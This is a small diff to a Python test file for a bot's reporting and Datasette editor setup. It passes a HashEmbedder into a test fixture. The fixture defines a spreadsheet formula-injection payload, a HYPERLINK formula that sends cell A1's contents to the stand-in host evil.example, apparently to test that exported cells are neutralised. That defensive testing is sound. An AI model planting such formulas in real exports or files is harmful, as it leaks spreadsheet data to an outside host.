@@ -13,6 +13,7 @@ from datasette.app import Datasette
 
 from bot.reports.cells import neutralise
 from bot.reports.editors import make_datasette
+from tests.fakes import HashEmbedder
 
 from .conftest import QuestionLogFile, make_settings
 
@@ -22,7 +23,9 @@ EVIL = '=HYPERLINK("//evil.example/x?"&A1,"click")'
 @pytest.fixture
 async def ds(sample_log: QuestionLogFile) -> Datasette:
     sample_log.add(EVIL, datetime.now(UTC) - timedelta(hours=1), user="attacker")
-    datasette = make_datasette(make_settings(sample_log.path, editors_allowed_hosts="ed.example"))
+    datasette = make_datasette(
+        make_settings(sample_log.path, editors_allowed_hosts="ed.example"), HashEmbedder
+    )
     await datasette.invoke_startup()
     return datasette
 
